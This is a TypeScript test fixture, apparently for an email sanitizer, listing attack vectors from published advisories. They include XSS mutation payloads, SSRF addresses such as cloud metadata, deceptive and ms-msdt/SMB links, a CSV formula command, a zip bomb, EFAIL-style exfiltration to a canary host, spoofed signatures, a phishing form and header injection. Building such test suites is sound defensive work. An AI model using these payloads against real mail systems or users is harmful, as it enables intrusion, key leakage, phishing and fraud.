import { writeTnef } from '#lib/testing/parsing/write-tnef.ts'
import type { Vector } from './vector.ts'

/** HTML of published advisories that the other tables say nothing of. */
export const ADVISORY_DOCUMENTS: readonly Vector[] = [
  ['edited after cleaning: body attributes read again', '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=RUN foo=bar">x</body>'],
  ['edited after cleaning: a quote split by an attribute', '<p title=\'x" onmouseover="RUN\'>x</p><a title="<img src=x onerror=RUN>" href="http://example.test/?&quot;onmouseover=&quot;RUN">x</a>'],
  ['edited after cleaning: quoted text cut out of its nest', '<blockquote type=cite><div class=gmail_quote><div title="<blockquote><img src=x onerror=RUN>">x</div></blockquote><div class=gmail_quote></blockquote><p title="</div><img src=x onerror=RUN>">x'],
  ['edited after cleaning: an element renamed', '<svg><x-svg><style><a alt="</style><img src=x onerror=RUN>"></style></x-svg></svg><proton-svg><style><img src="</style><img src=x onerror=RUN>"></style></proton-svg>'],
  ['mutation: raw text in an attribute, each element', ['noscript', 'xmp', 'noembed', 'noframes', 'iframe', 'style', 'script', 'title', 'textarea', 'plaintext'].map((name) => `<p id="</${name}><img src=x onerror=RUN>">x</p>`).join('')],
  ['mutation: comment opened wrongly', '<math><!foo-><template><img src=x onerror=RUN></template><! --></math><!x --><img src=x onerror=RUN><!-->'],
  ['mutation: processing instruction', '<?xml-stylesheet ><img src=x onerror=RUN> ?><svg><?x ><img src=x onerror=RUN>?></svg>'],
  ['mutation: annotation-xml and foreignObject', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>"></foreignobject></annotation-xml></svg>'],
  ['mutation: flattened below 512 elements', `${'<div>'.repeat(506)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=RUN>"></style></svg></caption></table>`],
  ['mutation: forms nested below 255', `${'<form><div></form>'.repeat(260)}<math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>`],
  ['mutation: template marks', '<template>{{x}}<script>RUN</script></template>${<img src=x onerror=RUN>}<% <img src=x onerror=RUN> %>{{constructor.constructor("RUN")()}}'],
  ['prototype: names of objects', '<p __proto__=x constructor=y hasOwnProperty=z toString=w><form id=__proto__><input name=constructor></form><img name=prototype src=x onerror=RUN>'],
  ['mutation: custom element by is', '<button is=x-y onclick=RUN>x</button><p is="x-y" slot=a part=b>x</p>'],
  ['CSS: a declaration smuggled by an ampersand', '<p style="color:red&;background:url(CANARY/amp)&amp;quot;">x</p><table background="x&quot;);background:url(CANARY/amp2)"><tr><td>x</table>'],
  ['CSS: comments, quotes and brackets out of step', '<style>p{color:"red}</style><style>/*"*/}p{background:url(CANARY/step)}/*\'*/</style><p style="font-family:\'a;background:url(CANARY/step2)\'">x</p><p style="color:/*;*/red;/**/background:/*)*/url(CANARY/step3)">x</p>'],
  ['CSS: proxied style sheet of a private host', '<link rel=stylesheet href="http://127.0.0.1.:CANARY_PORT/css"><style>@import url("http://[::ffff:7f00:1]:CANARY_PORT/css2");</style>'],
  ['SMIL: src, values and keyTimes', '<svg><image><animate attributeName="src" to="CANARY/smil"/><animate attributeName="href" values="x;CANARY/smil2;y" dur=1s /></image><animateMotion path="CANARY/m"/><discard href="CANARY/d"/></svg>'],
  ['proxy: addresses of this machine', ['127.1', '2130706433', '0x7f.0.0.1', '0177.0.0.1', 'localhost', 'localhost.', '[::1]', '[::ffff:127.0.0.1]', '0', '127.0.0.1.nip.io', '\u2460\u2461\u2466.0.0.1'].map((host) => `<img src="http://${host}:CANARY_PORT/ssrf">`).join('')],
  ['proxy: private and special networks', ['10.0.0.1', '192.168.0.1', '172.16.0.1', '169.254.169.254', '100.64.0.1', '[fe80::1]', '[fc00::1]', '[64:ff9b::7f00:1]', '198.18.0.1', 'metadata.google.internal'].map((host) => `<img src="http://${host}/ssrf">`).join('')],
  ['link target: says one and leads to another', '<a href="http://evil.test/">http://bank.test/</a><a href="http://bank.test@evil.test/">x</a><a href="http://xn--bnk-5cd.test/">bank.test</a><a href="http:/\\evil.test/">x</a><a href="http://bank.test%2f.evil.test/">bank.test</a>'],
  ['link target: programs of the machine', '<a href="ms-msdt:/id PCWDiagnostic">x</a><a href="search-ms:query=x&crumb=location:\\\\evil.test">x</a><a href="file:///\\\\evil.test\\s\\x.rtf!y">x</a><a href="intent://x#Intent;end">x</a><a href="vscode://x">x</a><a href="\\\\evil.test\\share">x</a><a href="smb://evil.test/x">x</a><a href="tel:*%2306%23">x</a>'],
  ['covert content: words by condition', '<style>.secret{display:none}@media print{.secret{display:block}}@media (min-width:1px){.open{display:none}}@supports(display:grid){.x{display:none}}blockquote .secret{display:block}:target .secret{display:block}</style><div class=open>Lunch?</div><div class=secret>I agree to pay.</div>'],
  ['covert content: an encrypted text in a quoted, hidden place', '<div style="display:none"><pre>-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----</pre></div><blockquote style="font-size:0">secret</blockquote>'],
  ['page code: attributes that scripts of a page act upon', '<div data-url="javascript:RUN" data-src="CANARY/data" data-toggle=tooltip data-html=true data-original-title="<img src=x onerror=RUN>" hx-get="CANARY/hx" hx-trigger=load x-data x-init="RUN" v-html="RUN" ng-app ng-csp ng-init="RUN" wire:init="RUN">x</div><a data-method=delete data-remote=true href="/api/session/end">x</a>'],
  ['link target: files of the mail program', '<a href="mailbox:///C:/x?number=1">x</a><a href="imap://x/INBOX">x</a><a href="resource:///x">x</a><a href="chrome://x">x</a><a href="about:blank">x</a><a href="x-apple-data-detectors://0">x</a><a href="blob:CANARY/x">x</a><a href="filesystem:CANARY/x">x</a><a href="jar:CANARY/x!/y">x</a>'],
  ['signature drawn in the message', '<table style="background:#d4edda;margin:-16px"><tr><td><img alt="\u2714" src="cid:x">Signed by Bob &lt;bob@example.test&gt;. The signature is good.</td></tr></table>'],
  ['sign-in form drawn in the message', '<form action="CANARY/phish" method=post target=_top><label>Session expired. Password <input type=password name=p autofocus></label><button formaction="javascript:RUN">Go</button></form>'],
]

const html = (words: string): string => `Content-Type: text/html; charset=utf-8\n\n${words}`
const multipart = (type: string, ...parts: readonly string[]): string => `MIME-Version: 1.0\nContent-Type: multipart/${type}; boundary=b\n\n${parts.map((part) => `--b\n${part}\n`).join('')}--b--\n`
const PLAIN = 'Content-Type: text/plain\n\nVisible words.'
const base64 = (octets: Buffer): string => octets.toString('base64').replace(/.{76}/g, '$&\n')
const MARKUP = '<img src=x onerror=RUN>"><script>RUN</script>'
const tnef = (octets: Buffer): string => `Content-Type: application/ms-tnef; name="winmail.dat"\nContent-Disposition: attachment; filename="winmail.dat"\nContent-Transfer-Encoding: base64\n\n${base64(octets)}`
const lyingTnef = (): Buffer => {
  const octets = writeTnef([{ title: 'x', content: Buffer.from('x') }])
  octets.writeUInt32LE(0xffffffff, 11)
  return octets
}
const invitation = (...lines: readonly string[]): string => `Content-Type: text/calendar; method=REQUEST; charset=utf-8\n\n${['BEGIN:VCALENDAR', 'METHOD:REQUEST', 'BEGIN:VEVENT', 'UID:x', 'DTSTART:20260101T100000Z', ...lines, 'END:VEVENT', 'END:VCALENDAR'].join('\n')}`
const PGP = 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n--e--'
const PKCS7 = 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQAxADCABgkqhkiG9w0BBwEAAAAA'
const SIGNATURE = 'Content-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----'
const SIGNED = `Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s\n\n--s\nContent-Type: text/plain\n\nSigned words.\n--s\n${SIGNATURE}\n--s--`

/** Whole messages of published advisories: what is around the body. */
export const ADVISORY_MESSAGES: readonly Vector[] = [
  ['calendar: markup in every field', `Subject: x\n${multipart('alternative', PLAIN, invitation(`SUMMARY:${MARKUP}`, `LOCATION:${MARKUP}`, `DESCRIPTION:<details open ontoggle=RUN>x</details>`, `ORGANIZER;CN="${MARKUP.replaceAll('"', '')}":mailto:o@example.test`, `ATTENDEE;CN=<script>RUN</script>;RSVP=TRUE:mailto:"onload=RUN"@example.test`, 'URL:javascript:RUN', 'CONFERENCE;VALUE=URI:javascript:RUN', 'ATTACH;FMTTYPE=image/png:CANARY/ics', 'IMAGE;VALUE=URI:CANARY/icsimage', `COMMENT:${MARKUP}`))}`],
  ['calendar: a reminder that plays a sound from elsewhere', `Subject: x\n${multipart('mixed', PLAIN, invitation('SUMMARY:x', 'BEGIN:VALARM', 'ACTION:AUDIO', 'TRIGGER:-PT1M', 'ATTACH;VALUE=URI:CANARY/sound', 'ATTACH;VALUE=URI:file://evil.test/share/x.wav', 'END:VALARM'))}`],
  ['card: markup and addresses in every field', `Subject: x\n${multipart('mixed', PLAIN, `Content-Type: text/vcard; charset=utf-8\nContent-Disposition: attachment; filename=x.vcf\n\n${['BEGIN:VCARD', 'VERSION:4.0', `FN:${MARKUP}`, `ORG:${MARKUP}`, `NOTE:${MARKUP}`, 'URL:javascript:RUN', 'IMPP:javascript:RUN', 'EMAIL:"><script>RUN</script>@example.test', 'PHOTO:CANARY/card.png', 'LOGO:data:image/svg+xml,<svg onload=RUN>', 'SOUND:CANARY/card.ogg', 'KEY:CANARY/card.key', 'SOURCE:CANARY/card', 'END:VCARD'].join('\n')}`)}`],
  ['TNEF: markup in names', `Subject: x\n${multipart('mixed', PLAIN, tnef(writeTnef([{ title: `${MARKUP}.html`, content: Buffer.from('<script>RUN</script>') }, { title: '../../x.svg', content: Buffer.from('<svg onload=RUN>') }])))}`],
  ['TNEF: a length that lies', `Subject: x\n${multipart('mixed', PLAIN, tnef(lyingTnef()))}`],
  ['AppleDouble: a page as its data', `Subject: x\n${multipart('mixed', PLAIN, `Content-Type: multipart/appledouble; boundary=a\n\n--a\nContent-Type: application/applefile; name="${MARKUP.replaceAll('"', '')}"\n\nAAAA\n--a\nContent-Type: text/html; name=x.html\n\n<script>RUN</script>\n--a--`)}`],
  ['archive that would fill the memory', `Subject: x\n${multipart('mixed', PLAIN, `Content-Type: application/zip; name=bomb.zip\nContent-Disposition: attachment; filename=bomb.zip\nContent-Transfer-Encoding: base64\n\n${base64(Buffer.concat([Buffer.from('504b0304140000000800', 'hex'), Buffer.alloc(8), Buffer.from('ffffffffffffffff', 'hex'), Buffer.alloc(4)]))}`)}`],
  ['table and document files that open as pages', `Subject: x\n${multipart('mixed', PLAIN, ...['text/csv', 'text/tab-separated-values', 'text/x-web-markdown', 'application/vnd.oasis.opendocument.text', 'application/hta', 'application/x-chrome-extension', 'application/x-x509-ca-cert', 'text/x-component', 'application/mathml+xml', 'application/vnd.ms-htmlhelp', 'text/cache-manifest', 'application/wasm', 'application/rss+xml'].map((type, at) => `Content-Type: ${type}; name="f${at}"\nContent-Disposition: attachment; filename="f${at}.csv"\n\n=cmd|'/c calc'!A1,<script>RUN</script>`))}`],
  ['type guessed from octets', `Subject: x\n${multipart('mixed', PLAIN, ...['image/png', 'image/jpeg', 'text/plain', 'audio/mpeg', 'application/octet-stream', ''].map((type, at) => `${type === '' ? '' : `Content-Type: ${type}\n`}Content-Disposition: inline; filename=s${at}\nContent-Transfer-Encoding: base64\n\n${base64(Buffer.from('GIF89a/*<html><script>RUN</script></html>*/=1'))}`))}`],
  ['unsubscribe that points at this machine', `Subject: x\nFrom: list@example.test\nList-Unsubscribe: <http://127.0.0.1:CANARY_PORT/unsubscribe>, <CANARY/one-click>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\nDKIM-Signature: v=1; d=example.test; h=list-unsubscribe:list-unsubscribe-post\nMIME-Version: 1.0\n${PLAIN}`],
  ['leaked key: open HTML around an OpenPGP part', `Subject: x\n${multipart('mixed', html('Visible words.<img src="CANARY/efail?'), PGP, html('">'))}`],
  ['leaked key: open HTML around an S/MIME part', `Subject: x\n${multipart('mixed', html('Visible words.<form action="CANARY/efail"><textarea name=x>'), PKCS7, html('</textarea><input type=submit></form>'))}`],
  ['leaked key: an encrypted part below a quoted one', `Subject: x\n${multipart('related', html('Visible words.<img src="cid:p@x"><iframe src="cid:p@x">'), PGP.replace('Content-Type: multipart/encrypted', 'Content-ID: <p@x>\nContent-Type: multipart/encrypted'))}`],
  ['spoofed signature: words outside of what is signed', `Subject: x\nFrom: bob@example.test\n${multipart('mixed', html('Visible words. Pay at once.<div style="display:none">'), SIGNED)}`],
  ['spoofed signature: the signed part hidden by its picture', `Subject: x\nFrom: bob@example.test\n${multipart('related', html('Visible words. Pay at once.'), `Content-ID: <s@x>\n${SIGNED}`)}`],
  ['spoofed signature: a part too many', `Subject: x\nFrom: bob@example.test\n${multipart('signed; protocol="application/pgp-signature"', PLAIN, SIGNATURE, html('Pay at once.'))}`],
  ['spoofed signature: opaque and empty', `Subject: x\nFrom: bob@example.test\nMIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExADCABgkqhkiG9w0BBwEAADEAAAAA`],
  ['spoofed signature: status in the header', `Subject: \u2714 Good signature from Bob\nFrom: "bob@example.test (verified)" <mallory@evil.test>\nX-Signature: good\nX-PGP-Status: verified\nAuthentication-Results: localhost; dkim=pass header.d=bank.test\nMIME-Version: 1.0\n${PLAIN}`],
  ['file elsewhere by a field of its header', `Subject: x\n${multipart('mixed', PLAIN, 'Content-Type: application/pdf; name=x.pdf\nContent-Disposition: attachment; filename=x.pdf\nX-Mozilla-External-Attachment-URL: CANARY/elsewhere\nX-Mozilla-Cloud-Part: cloudFile; url=CANARY/cloud\nContent-Location: CANARY/location\nContent-Base: CANARY/\n\n')}`],
  ['file of a message in a message, a page that says it is a PDF', `Subject: x\n${multipart('mixed', PLAIN, `Content-Type: message/rfc822\n\nSubject: ${MARKUP}\nFrom: ${MARKUP}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=i\n\n--i\n${html(MARKUP)}\n--i\nContent-Type: text/html; name="x.pdf"\nContent-Disposition: attachment; filename="x.pdf"\n\n<script>RUN</script>\n--i--`)}`],
  ['header injection by encoded line ends', `Subject: x\nFrom: "a =?utf-8?Q?=0D=0ABcc:_x@evil.test?=" <a@example.test>\nReply-To: =?utf-8?Q?x=0D=0ATo:_y@evil.test?= <b@example.test>\nMessage-ID: <x\ry@example.test>\nMIME-Version: 1.0\n${PLAIN}`],
]
